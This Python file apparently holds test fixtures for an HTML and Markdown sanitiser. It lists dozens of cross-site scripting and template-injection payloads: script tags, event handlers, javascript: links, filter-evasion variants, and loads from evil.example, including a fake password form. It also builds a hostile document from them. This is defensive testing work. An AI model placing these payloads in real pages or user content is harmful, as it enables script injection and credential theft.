"""Text that tries to run in a reader's browser, or to load something into it."""

from __future__ import annotations

RUN = "alert(1)"
FAR = "https://evil.example"

TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{FAR}/p.png'>",
    f'<img """><script>{RUN}</script>">',
    f"<img src=x:x onerror\n={RUN}>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><use href='{FAR}/s.svg#x'></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<math><mtext></p><script>{RUN}</script></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src={FAR}></iframe>",
    f"<object data='{FAR}/x.swf'></object>",
    f"<embed src='{FAR}/x.swf'>",
    f"<link rel=stylesheet href={FAR}/x.css>",
    f"<style>@import '{FAR}/x.css';</style>",
    f"<style>*{{background:url({FAR}/x.png)}}</style>",
    f"<base href={FAR}/>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<form action={FAR}><input name=password><button>Log in</button></form>",
    f"<button onclick={RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={FAR}/p.png></video>",
    f"<audio src={FAR}/a.mp3 autoplay></audio>",
    f"<source src={FAR}/a.mp3>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='background:url({FAR}/x.png)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    f"<p onmouseover={RUN}>x</p>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='{FAR}' onclick={RUN}>x</a>",
    "<a id=answers name=conversation>x</a>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"</div></section></main><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"`-{RUN}-`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x]({FAR})",
    "[x](//evil.example/x)",
    f"[x](<javascript:{RUN}>)",
    f'[x]({FAR} "onclick={RUN}")',
    f"![x]({FAR}/p.png)",
    f"![x](javascript:{RUN})",
    f'![{RUN}" onerror="{RUN}](x)',
    f"[![x]({FAR}/p.png)]({FAR})",
    f"<{FAR}>",
    f"<javascript:{RUN}>",
    f"[x][far]\n\n[far]: {FAR}",
    f"[x][run]\n\n[run]: javascript:{RUN}",
    f"[1]: {FAR}\n\n[1]",
    f"[1](javascript:{RUN})",
    f"[2]({FAR})",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<img src=x onerror={RUN}>`",
    f"    <script>{RUN}</script>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"- <svg onload={RUN}>\n- [x](javascript:{RUN})",
    f"> <iframe src=javascript:{RUN}>",
    f"# <script>{RUN}</script>",
    f"~~<img src=x onerror={RUN}>~~",
]
TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{#with this}}{{lookup constructor 'constructor'}}{{/with}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "@@welcome@@ @@title@@",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
PAYLOADS = TAGS + MARKDOWN + TEMPLATES

HOSTILE_DOCUMENT = (
    "---\n"
    'title: "Hostile <img src=x onerror=alert(1)> {{constructor}} ${alert(1)} </title><script>alert(1)</script>"\n'
    'url: "javascript:alert(1)"\n'
    'version: "<script>alert(1)</script>"\n'
    "updated: 2026-01-01\n"
    "---\n"
    "# Grunewald octopus maintenance\n\nThe grunewald octopus is maintained every 77 days.\n\n"
    + "\n\n".join(payload.replace("\x00", "").replace("\x0c", "") for payload in PAYLOADS)
    + "\n"
)
